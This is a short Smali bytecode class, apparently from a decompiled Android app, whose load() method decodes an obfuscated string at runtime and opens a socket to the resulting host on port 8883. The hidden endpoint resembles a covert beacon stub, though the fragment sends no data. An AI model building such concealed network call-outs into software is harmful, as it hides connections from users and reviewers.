.class public Lk1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 4
    const-string v1, "|`?by~a?etbe"
    invoke-static {v1}, Lk1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    new-instance v0, Ljava/net/Socket;
    const/16 v2, 0x22b3
    invoke-direct {v0, v1, v2}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
    return-void
.end method

